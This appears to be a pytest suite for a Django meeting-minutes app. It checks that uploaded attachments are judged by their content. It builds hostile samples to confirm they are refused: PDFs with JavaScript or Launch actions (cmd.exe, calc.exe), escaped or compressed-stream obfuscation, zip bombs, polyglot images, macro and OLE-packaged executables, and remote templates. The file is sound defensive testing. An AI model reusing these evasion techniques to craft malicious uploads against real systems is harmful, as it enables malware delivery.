"""Attachments are checked by what they contain, not by what their names claim."""

import datetime
import io
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from django.utils.html import escape

from meetings import services
from meetings.models import Attachment
from meetings.services import create_meeting
from meetings.uploads import (
    DEFAULT_MAX_BYTES,
    detect_kind,
    max_attachment_bytes,
    validate_attachment,
)
from tests.meetings.test_minutes_editing import form_data


def _docx() -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph("Bilaga 4: Överenskommelse om samverkan")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _pdf() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 30, 30)).save(out, format="PNG")
    return out.getvalue()


def _jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (4, 4), (30, 30, 200)).save(out, format="JPEG")
    return out.getvalue()


def _gif() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("P", (4, 4)).save(out, format="GIF")
    return out.getvalue()


def _ooxml(main_type: str, main_part: str, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal Office Open XML package, as Excel and PowerPoint write them."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>'
        "</Types>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", content_types)
        package.writestr(main_part, "<root/>")
        for name, data in (extra or {}).items():
            package.writestr(name, data)
    return out.getvalue()


def _xlsx() -> bytes:
    return _ooxml(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "xl/workbook.xml",
    )


def _pptx() -> bytes:
    return _ooxml(
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        "ppt/presentation.xml",
    )


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200


def _upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def _message(error: pytest.ExceptionInfo) -> str:
    return " ".join(error.value.messages)


@pytest.fixture(autouse=True)
def swedish():
    with translation.override("sv"):
        yield


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("Bilaga 4.pdf", _pdf),
        ("Bilaga 5.docx", _docx),
        ("Budget 2021.xlsx", _xlsx),
        ("Presentation.pptx", _pptx),
        ("Karta.png", _png),
        ("Foto.JPG", _jpeg),
        ("Foto.jpeg", _jpeg),
        ("Diagram.gif", _gif),
    ],
)
def test_real_files_of_allowed_types_are_accepted(name, make):
    upload = _upload(name, make())
    validate_attachment(upload)
    # The check leaves the file ready to be saved from its beginning.
    assert upload.tell() == 0


def test_webp_is_recognised_by_its_riff_header():
    data = b"RIFF" + (30).to_bytes(4, "little") + b"WEBPVP8 " + b"\x00" * 22
    validate_attachment(_upload("bild.webp", data))


def test_an_executable_renamed_to_pdf_is_refused():
    with pytest.raises(ValidationError) as error:
        validate_attachment(_upload("Bilaga 3.pdf", EXE))
    assert error.value.code == "content_mismatch"
    assert "inte en PDF-fil" in _message(error)


def test_a_pdf_renamed_to_docx_is_refused_and_told_what_it_is():
    with pytest.raises(ValidationError) as error:
        validate_attachment(_upload("Bilaga 3.docx", _pdf()))
    assert error.value.code == "content_mismatch"
    message = _message(error)
    assert ".docx" in message and "PDF" in message


def test_a_word_document_renamed_to_xlsx_is_refused():
    with pytest.raises(ValidationError) as error:
        validate_attachment(_upload("Budget.xlsx", _docx()))
    assert "Word (DOCX)" in _message(error)


def test_a_plain_zip_renamed_to_docx_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("word/document.xml", "<w:document/>")
    with pytest.raises(ValidationError) as error:
        validate_attachment(_upload("Bilaga.docx", out.getvalue()))
    assert "inte en Word (DOCX)-fil" in _message(error)


def test_a_document_with_macros_is_refused():
    data = _ooxml("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml")
    with pytest.raises(ValidationError) as error:
        validate_attachment(_upload("Mall.docx", data))
    assert error.value.code == "macros"
    assert "makron" in _message(error)


def test_a_type_not_on_the_list_is_refused_even_with_harmless_content():
    with pytest.raises(ValidationError) as error:
        validate_attachment(_upload("program.exe", EXE))
    assert error.value.code == "type_not_allowed"
    assert "PDF" in _message(error) and "PNG" in _message(error)
    with pytest.raises(ValidationError):
        validate_attachment(_upload("anteckningar.txt", b"%PDF-1.7 fake"))
    with pytest.raises(ValidationError):
        validate_attachment(_upload("utan-filandelse", _pdf()))


def test_an_empty_file_is_refused():
    with pytest.raises(ValidationError) as error:
        validate_attachment(_upload("tom.pdf", b""))
    assert error.value.code == "empty"
    assert "tom" in _message(error)


def test_a_file_above_the_configured_limit_is_refused(settings):
    settings.ATTACHMENT_MAX_BYTES = 1000
    data = _pdf() + b"\n%" + b"x" * 1000
    with pytest.raises(ValidationError) as error:
        validate_attachment(_upload("stor.pdf", data))
    assert error.value.code == "too_large"
    assert "för stor" in _message(error)
    # Both the file's size and the limit are told, in Swedish units.
    assert "1000\xa0byte" in _message(error)


def test_a_file_at_the_limit_is_accepted(settings):
    data = _pdf()
    settings.ATTACHMENT_MAX_BYTES = len(data)
    validate_attachment(_upload("precis.pdf", data))


def test_the_default_limit_is_25_megabytes(settings):
    del settings.ATTACHMENT_MAX_BYTES
    assert max_attachment_bytes() == DEFAULT_MAX_BYTES == 25 * 1024 * 1024


def test_a_zip_bomb_is_refused_without_inflating_it():
    # A content-types part that inflates to far more than any real package needs.
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", b" " * (64 * 1024 * 1024))
        package.writestr("word/document.xml", "<w:document/>")
    data = out.getvalue()
    assert len(data) < 1024 * 1024
    with pytest.raises(ValidationError):
        validate_attachment(_upload("bomb.docx", data))


def test_a_package_with_an_absurd_number_of_parts_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for n in range(10_001):
            package.writestr(f"p/{n}", b"")
    with pytest.raises(ValidationError):
        validate_attachment(_upload("många.xlsx", out.getvalue()))


def test_a_damaged_zip_is_refused():
    data = _docx()[:200]
    with pytest.raises(ValidationError) as error:
        validate_attachment(_upload("trasig.docx", data))
    assert "skadad" in _message(error)


def test_detect_kind_reads_content_only():
    assert detect_kind(io.BytesIO(_pdf())) == "pdf"
    assert detect_kind(io.BytesIO(_docx())) == "docx"
    assert detect_kind(io.BytesIO(_xlsx())) == "xlsx"
    assert detect_kind(io.BytesIO(_pptx())) == "pptx"
    assert detect_kind(io.BytesIO(_png())) == "png"
    assert detect_kind(io.BytesIO(EXE)) is None


# --------------------------------------------------------------- files made for the tests

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
# LibreOffice's and Chromium's PDFs of minutes, and Word documents (see corpus/README.md).
CORPUS_PDFS = sorted((FIXTURES / "corpus").glob("*.pdf"))
CORPUS_DOCX = sorted((FIXTURES / "corpus").glob("*.docx"))


def _written(writer) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf_writer():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def _action(kind: str, **entries):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def _pdf_opening_with(action) -> bytes:
    from pypdf.generic import NameObject

    writer = _pdf_writer()
    writer.root_object[NameObject("/OpenAction")] = action
    return _written(writer)


def _pdf_with_link(action) -> bytes:
    """A PDF with a link on its page that performs ``action`` when clicked."""
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject

    writer = _pdf_writer()
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 700, 300, 720)]),
            NameObject("/A"): action,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _written(writer)


def _pdf_with_page_action(action) -> bytes:
    """A PDF whose page performs ``action`` when it is opened (/AA /O)."""
    from pypdf.generic import DictionaryObject, NameObject

    writer = _pdf_writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    return _written(writer)


def _packed_pdf(action: bytes) -> bytes:
    """A PDF whose objects are all packed in one compressed object stream, indexed by a
    cross-reference stream (as Word and WeasyPrint write them); it opens with ``action``."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        action,
    ]
    offsets, body = [], b""
    for text in bodies:
        offsets.append(len(body))
        body += text + b"\n"
    index = b" ".join(b"%d %d" % pair for pair in enumerate(offsets, start=1)) + b"\n"
    packed = zlib.compress(index + body)
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    stream_at = len(out)
    out += b"5 0 obj\n<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\n" % (
        len(index),
        len(packed),
    )
    out += b"stream\n" + packed + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = [(0, 0, 65535), *((2, 5, i) for i in range(4)), (1, stream_at, 0), (1, xref_at, 0)]
    table = b"".join(bytes([t]) + f.to_bytes(4, "big") + g.to_bytes(2, "big") for t, f, g in rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\n" % len(table)
    out += b"stream\n" + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return out


def _weasyprint_pdf() -> bytes:
    """A PDF as WeasyPrint writes the register's own: object streams, links, bookmarks."""
    from weasyprint import HTML

    page = (
        "<h1>Överenskommelse om samverkan</h1>"
        '<p>Se <a href="https://rssdalarna.se/">RSS Dalarna</a> och <a href="#del">del 2</a>.</p>'
        '<h2 id="del">Del 2</h2><p>Äldreomsorg.</p>'
    )
    return HTML(string=page).write_pdf()


def _zip(parts: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def _docx_with(parts: dict[str, bytes | str]) -> bytes:
    """A Word document from python-docx with parts added or replaced."""
    with zipfile.ZipFile(io.BytesIO(_docx())) as made:
        current = {name: made.read(name) for name in made.namelist()}
    return _zip(current | parts)


def _relationships(*rows: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(rows)
        + "</Relationships>"
    )


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
# An OLE object wrapping a file (the Packager): the directory names its stream, and the
# stream starts with the file's label and path.
PACKAGED_EXE = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    + b"\x00" * 504
    + "\x01Ole10Native".encode("utf-16-le")
    + b"\x00" * 64
    + b"\x40\x00\x00\x00\x02\x00faktura.exe\x00C:\\Users\\x\\faktura.exe\x00"
)


def _overlapping_docx() -> bytes:
    """A Word document whose directory lists its first entry twice, pointing at the same
    data, as zip bombs that share their data among entries do."""
    data = bytearray(_docx())
    directory_at = data.rfind(b"PK\x05\x06")
    count = int.from_bytes(data[directory_at + 10 : directory_at + 12], "little")
    size = int.from_bytes(data[directory_at + 12 : directory_at + 16], "little")
    start = int.from_bytes(data[directory_at + 16 : directory_at + 20], "little")
    first = data[start : start + 46 + int.from_bytes(data[start + 28 : start + 30], "little")]
    entries = bytes(data[start : start + size]) + bytes(first)
    end = bytearray(data[directory_at : directory_at + 22])
    end[8:10] = end[10:12] = (count + 1).to_bytes(2, "little")
    end[12:16] = len(entries).to_bytes(4, "little")
    return bytes(data[:start]) + entries + bytes(end)


def _gif_with_zip() -> bytes:
    return _gif() + _zip({"index.html": "<script>alert(1)</script>"})


def _refusal(name: str, data: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as error:
        validate_attachment(_upload(name, data))
    return error.value


# -------------------------------------------------------------- what passes the checks


def _producer(path: Path) -> str:
    from pypdf import PdfReader

    return PdfReader(path).metadata.producer


@pytest.mark.parametrize("path", CORPUS_PDFS, ids=lambda p: p.name)
def test_pdfs_from_libreoffice_and_chromium_pass(path):
    validate_attachment(_upload(path.name, path.read_bytes()))


def test_the_fixtures_hold_pdfs_of_each_maker():
    producers = {_producer(path).split()[0] for path in CORPUS_PDFS}
    assert producers == {"LibreOffice", "ReportLab", "Skia/PDF", "WeasyPrint"}


@pytest.mark.parametrize("path", CORPUS_DOCX, ids=lambda p: p.name)
def test_word_documents_pass(path):
    validate_attachment(_upload(path.name, path.read_bytes()))


def test_a_weasyprint_pdf_with_object_streams_links_and_bookmarks_passes():
    data = _weasyprint_pdf()
    assert b"/ObjStm" in data
    validate_attachment(_upload("Bilaga 2.pdf", data))


def test_ordinary_links_and_attached_data_pass():
    validate_attachment(
        _upload("länk.pdf", _pdf_with_link(_action("/URI", URI="https://rssdalarna.se/")))
    )
    writer = _pdf_writer()
    writer.add_attachment("underlag.xml", b"<underlag/>")
    validate_attachment(_upload("med-bilaga.pdf", _written(writer)))
    # A PDF packed in object streams, made as the refused ones below are, is read.
    validate_attachment(
        _upload("packad.pdf", _packed_pdf(b"<< /S /URI /URI (https://rssdalarna.se/) >>"))
    )


def test_a_pdf_locked_against_editing_only_is_read_and_passes():
    writer = _pdf_writer()
    writer.encrypt(user_password="", owner_password="sekreterare", algorithm="AES-256")
    validate_attachment(_upload("låst.pdf", _written(writer)))


def test_office_documents_with_links_and_embedded_workbooks_pass():
    data = _docx_with(
        {
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": _xlsx(),
            "word/_rels/document.xml.rels": _relationships(
                f'<Relationship Id="rId9" Type="{REL}/hyperlink" '
                'Target="https://rssdalarna.se/" TargetMode="External"/>',
                f'<Relationship Id="rId10" Type="{REL}/image" '
                'Target="file:///C:/Bilder/karta.png" TargetMode="External"/>',
            ),
        }
    )
    validate_attachment(_upload("Bilaga 6.docx", data))


# ------------------------------------------------------------------------- PDF content


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (lambda: _pdf_opening_with(_action("/JavaScript", JS="app.alert(1)")), "javascript"),
        (lambda: _pdf_with_page_action(_action("/JavaScript", JS="app.alert(1)")), "javascript"),
        (lambda: _pdf_with_link(_action("/URI", URI="\tJavaScript:alert(1)")), "javascript"),
        (lambda: _pdf_opening_with(_action("/Launch", F="cmd.exe")), "actions"),
        (lambda: _pdf_with_link(_action("/Launch", F="calc.exe")), "actions"),
        (lambda: _pdf_with_page_action(_action("/SubmitForm", F="https://x.test/")), "actions"),
        (lambda: _pdf_with_link(_action("/ImportData", F="data.fdf")), "actions"),
    ],
    ids=[
        "open-javascript",
        "page-javascript",
        "javascript-uri",
        "open-launch",
        "link-launch",
        "page-submit",
        "link-import",
    ],
)
def test_pdfs_with_scripts_or_actions_are_refused(make, code):
    assert _refusal("Bilaga.pdf", make()).code == code


def test_javascript_in_the_documents_name_tree_is_refused():
    from pypdf.actions import JavaScript

    writer = _pdf_writer()
    writer.add_open_action(JavaScript("this.print();"))
    assert _refusal("skript.pdf", _written(writer)).code == "javascript"


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /JavaScript /JS (app.launchURL\\('https://x.test/'\\)) >>",
        # A media action that runs a script of its own, named by no /JavaScript.
        b"<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>",
        # A link to javascript:alert(1), written as hex digits.
        b"<< /S /URI /URI <6a6176617363726970743a616c657274283129> >>",
    ],
    ids=["javascript", "rendition-script", "hex-uri"],
)
def test_javascript_packed_in_a_compressed_object_stream_is_found(action):
    data = _packed_pdf(action)
    assert b"JavaScript" not in data and b"/JS" not in data  # nothing to see in the bytes
    assert _refusal("packad.pdf", data).code == "javascript"


def test_a_launch_action_spelled_with_escapes_is_found():
    packed = _packed_pdf(b"<< /S /L#61unch /F (calc.exe) >>")
    assert _refusal("packad.pdf", packed).code == "actions"
    # Also in an object the index leaves out, which a viewer repairing the file may read.
    hidden = _pdf() + b"9 0 obj << /S /L#61unch /F (calc.exe) >> endobj\n"
    assert _refusal("gömd.pdf", hidden).code == "actions"


def test_a_pdf_carrying_a_program_is_refused():
    writer = _pdf_writer()
    writer.add_attachment("Faktura.pdf.exe", EXE)
    error = _refusal("bilaga.pdf", _written(writer))
    assert error.code == "embedded_file"


def test_a_pdf_that_needs_a_password_is_refused_in_swedish():
    writer = _pdf_writer()
    writer.encrypt(user_password="hemligt", owner_password="hemligt")
    error = _refusal("skyddad.pdf", _written(writer))
    assert error.code == "encrypted"
    assert "skyddad med lösenord" in " ".join(error.messages)


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + bytes(range(256)) * 8,
        (FIXTURES / "corpus" / "vfr-2023-10-05.pdf").read_bytes()[:5000],
        b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
    ],
    ids=["noise", "cut-short", "no-catalog"],
)
def test_a_pdf_that_cannot_be_read_is_refused(data):
    assert _refusal("trasig.pdf", data).code == "damaged"


# -------------------------------------------------------------------------- polyglots


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("Diagram.gif", _gif_with_zip),
        ("Karta.png", lambda: _png() + _zip({"a.txt": "hej"})),
        ("Foto.jpg", lambda: _jpeg() + _zip({"a.txt": "hej"}, zipfile.ZIP_STORED)),
        ("Bilaga.pdf", lambda: _pdf() + _zip({"a.txt": "hej"})),
    ],
)
def test_a_file_that_also_opens_as_a_zip_archive_is_refused(name, make):
    data = make()
    assert zipfile.is_zipfile(io.BytesIO(data))
    assert detect_kind(io.BytesIO(data)) != "zip"  # it is what its name says, and more
    assert _refusal(name, data).code == "archive"


def test_a_stray_end_of_archive_mark_is_no_archive():
    # The four bytes that end a zip directory, by chance near a PDF's end, open nothing.
    data = _pdf() + b"%PK\x05\x06 " + b"\x00" * 18 + b"\n"
    validate_attachment(_upload("Bilaga.pdf", data))


def test_a_pdf_that_starts_as_a_web_page_is_refused():
    pdf = _pdf()
    data = pdf[:9] + b"%<html><body><script>alert(1)</script>\n" + pdf[9:]
    assert _refusal("Bilaga.pdf", data).code == "markup"


def test_an_image_holding_a_script_or_a_web_page_is_refused():
    from PIL import Image, PngImagePlugin

    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", "<script>alert(1)</script>")
    png = io.BytesIO()
    Image.new("RGB", (4, 4)).save(png, format="PNG", pnginfo=text)
    assert _refusal("Karta.png", png.getvalue()).code == "markup"
    jpeg = io.BytesIO()
    Image.new("RGB", (4, 4)).save(jpeg, format="JPEG", comment=b"<html><body>")
    assert _refusal("Foto.jpg", jpeg.getvalue()).code == "markup"


# ------------------------------------------------------------------ Office documents


def test_a_word_zip_bomb_is_refused_from_its_directory():
    data = _docx_with({"word/document.xml": b"<w:document/>" + b" " * (40 * 1024 * 1024)})
    assert len(data) < 1024 * 1024
    error = _refusal("bomb.docx", data)
    assert error.code == "oversized_zip"


def test_a_word_document_with_too_many_parts_is_refused():
    data = _docx_with({f"word/media/bild{n}.png": b"" for n in range(10_001)})
    assert _refusal("många.docx", data).code == "oversized_zip"


def test_a_word_document_whose_parts_share_their_data_is_refused():
    data = _overlapping_docx()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None  # zip readers unpack it, the first part twice
        assert len(archive.infolist()) == len(zipfile.ZipFile(io.BytesIO(_docx())).infolist()) + 1
    assert _refusal("delad.docx", data).code == "oversized_zip"


@pytest.mark.parametrize(
    ("parts", "code"),
    [
        ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "macros"),
        ({"word/embeddings/oleObject1.bin": PACKAGED_EXE}, "embedded_program"),
        ({"word/embeddings/setup.exe": EXE}, "embedded_program"),
        ({"word/activeX/activeX1.xml": "<ax:ocx/>"}, "embedded_program"),
        (
            {
                "word/_rels/settings.xml.rels": _relationships(
                    f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
                    'Target="https://x.test/mall.dotm" TargetMode="External"/>'
                )
            },
            "external",
        ),
        (
            {
                "word/_rels/document.xml.rels": _relationships(
                    f"<Relationship Id='rId9' Type='{REL}/oleObject' "
                    "Target='mhtml:https://x.test/!x-usc:https://x.test/' "
                    "TargetMode='External'/>"
                )
            },
            "external",
        ),
    ],
    ids=["vba", "packaged-exe", "exe-part", "activex", "remote-template", "remote-object"],
)
def test_office_documents_that_run_or_fetch_code_are_refused(parts, code):
    assert _refusal("Bilaga.docx", _docx_with(parts)).code == code


# ------------------------------------------------- a refused file through the item editor


@pytest.fixture
def meeting(vfr, vfr_secretary):
    return create_meeting(forum=vfr, date=datetime.date(2026, 11, 20), user=vfr_secretary)


@pytest.fixture
def item_page(client, vfr_secretary, meeting, settings, tmp_path):
    """The editor of the meeting's second item, logged in, with MEDIA_ROOT of its own."""
    settings.MEDIA_ROOT = tmp_path
    client.force_login(vfr_secretary)
    item = meeting.items.get(number="2")
    return reverse("meeting_item_edit", args=[meeting.pk, item.pk])


def _stored_files(root: Path) -> list[Path]:
    return [path for path in root.rglob("*") if path.is_file()]


def _post_attachment(client, url: str, name: str, data: bytes, **fields):
    form = form_data(client.get(url))
    form["discussion"] = "Texten finns kvar."
    form["attachments-0-title"] = "Bilagan"
    form["attachments-0-file"] = SimpleUploadedFile(name, data)
    form.update({f"attachments-0-{key}": value for key, value in fields.items()})
    return client.post(url, form)


REFUSED_UPLOADS = [
    ("skript.pdf", lambda: _pdf_opening_with(_action("/JavaScript", JS="app.alert(1)"))),
    ("packad.pdf", lambda: _packed_pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
    ("start.pdf", lambda: _pdf_with_link(_action("/Launch", F="calc.exe"))),
    ("trasig.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 8),
    ("webbsida.pdf", lambda: _pdf()[:9] + b"%<html><script>alert(1)</script>\n" + _pdf()[9:]),
    ("arkiv.pdf", lambda: _pdf() + _zip({"a.txt": "hej"})),
    ("Diagram.gif", _gif_with_zip),
    ("bomb.docx", lambda: _docx_with({"word/document.xml": b" " * (40 * 1024 * 1024)})),
    ("många.docx", lambda: _docx_with({f"p/{n}.xml": b"" for n in range(10_001)})),
    ("program.docx", lambda: _docx_with({"word/embeddings/oleObject1.bin": PACKAGED_EXE})),
]


@pytest.mark.parametrize(("name", "make"), REFUSED_UPLOADS, ids=[n for n, _m in REFUSED_UPLOADS])
def test_a_refused_file_is_told_on_the_form_and_nothing_is_stored(
    client, item_page, tmp_path, name, make
):
    data = make()
    told = " ".join(_refusal(name, data).messages)
    with translation.override("en"):
        assert told != " ".join(_refusal(name, data).messages)  # the catalog has it in Swedish

    response = _post_attachment(client, item_page, name, data)

    html = response.content.decode()
    assert response.status_code == 200
    assert escape(told) in html
    assert "Punkten sparades inte." in html
    assert "Texten finns kvar." in html
    assert not Attachment.objects.exists()
    assert _stored_files(tmp_path) == []


def test_a_password_protected_pdf_is_told_in_swedish(client, item_page, tmp_path):
    writer = _pdf_writer()
    writer.encrypt(user_password="hemligt", owner_password="hemligt")
    response = _post_attachment(client, item_page, "skyddad.pdf", _written(writer))
    assert response.status_code == 200
    assert "PDF-filen är skyddad med lösenord." in response.content.decode()
    assert not Attachment.objects.exists()
    assert _stored_files(tmp_path) == []


# ------------------------------------------- a file is stored only when its row is saved


def _attached(meeting, number: str, name: str = "befintlig.pdf", item: str = "3") -> Attachment:
    attachment = Attachment(meeting=meeting, item=meeting.items.get(number=item), number=number)
    attachment.title = "Befintlig"
    attachment.file.save(name, io.BytesIO(_pdf()), save=True)
    return attachment


def test_a_number_already_taken_is_told_and_no_file_is_left_behind(
    client, item_page, meeting, tmp_path, django_capture_on_commit_callbacks
):
    existing = _attached(meeting, "1")
    before = _stored_files(tmp_path)

    response = _post_attachment(client, item_page, "ny.pdf", _pdf(), number="1")

    html = response.content.decode()
    assert response.status_code == 200
    assert "Mötet har redan en bilaga med det här numret." in html
    assert "Texten finns kvar." in html
    assert list(Attachment.objects.all()) == [existing]
    # The new file waits among the kept uploads for the corrected form, and nowhere else.
    assert "Sparad: ny.pdf" in html
    left = [p for p in _stored_files(tmp_path) if p not in before]
    assert [p.relative_to(tmp_path).parts[0] for p in left] == ["kept-uploads"]

    again = form_data(response)
    again["attachments-0-number"] = "2"
    with django_capture_on_commit_callbacks(execute=True):
        saved = client.post(item_page, again)
    assert saved.status_code == 302, saved.content.decode()
    assert sorted(Attachment.objects.values_list("number", flat=True)) == ["1", "2"]
    assert Attachment.objects.get(number="2").file.read() == _pdf()
    assert len(_stored_files(tmp_path)) == 2


def test_two_new_attachments_with_one_number_store_nothing(client, item_page, meeting, tmp_path):
    form = form_data(client.get(item_page))
    form["attachments-TOTAL_FORMS"] = "2"
    for row in ("0", "1"):
        form[f"attachments-{row}-number"] = "5"
        form[f"attachments-{row}-title"] = f"Bilaga {row}"
        form[f"attachments-{row}-file"] = SimpleUploadedFile(f"b{row}.pdf", _pdf())
    response = client.post(item_page, form)
    assert response.status_code == 200
    assert "Mötet har redan en bilaga med det här numret." in response.content.decode()
    assert not Attachment.objects.exists()
    assert all(p.relative_to(tmp_path).parts[0] == "kept-uploads" for p in _stored_files(tmp_path))


def test_a_row_the_database_refuses_takes_its_file_with_it(
    client, item_page, meeting, tmp_path, monkeypatch
):
    # Another secretary takes number 1 between the check and the insert.
    existing = _attached(meeting, "1")
    monkeypatch.setattr(services, "_taken_attachment_numbers", lambda meeting, removed: set())

    response = _post_attachment(client, item_page, "ny.pdf", _pdf(), number="1")

    assert response.status_code == 200
    assert "Mötet har redan en bilaga med det här numret." in response.content.decode()
    assert list(Attachment.objects.all()) == [existing]
    assert [p.name for p in _stored_files(tmp_path / "attachments")] == [
        Path(existing.file.name).name
    ]


def test_a_removed_attachment_keeps_its_file_until_the_save_is_committed(
    client, item_page, meeting, tmp_path, django_capture_on_commit_callbacks
):
    removed = _attached(meeting, "1", item="2")  # an attachment of the item edited
    kept = _attached(meeting, "2", "andra.pdf")
    removed_path = tmp_path / removed.file.name

    # Removing one and adding a new one under the other's number fails as a whole.
    form = form_data(client.get(item_page))
    form["remove_attachment"] = str(removed.pk)
    form["attachments-0-number"] = "2"
    form["attachments-0-title"] = "Ny"
    form["attachments-0-file"] = SimpleUploadedFile("ny.pdf", _pdf())
    assert client.post(item_page, form).status_code == 200
    assert set(Attachment.objects.all()) == {removed, kept}
    assert removed_path.exists()

    # Its number may go to the new one in the same save; the old file goes once saved.
    form = form_data(client.get(item_page))
    form["remove_attachment"] = str(removed.pk)
    form["attachments-0-number"] = "1"
    form["attachments-0-title"] = "Ny"
    form["attachments-0-file"] = SimpleUploadedFile("ny.pdf", _pdf())
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(item_page, form)
    assert response.status_code == 302, response.content.decode()
    assert not removed_path.exists()
    new = Attachment.objects.get(number="1")
    assert new.title == "Ny" and (tmp_path / new.file.name).exists()
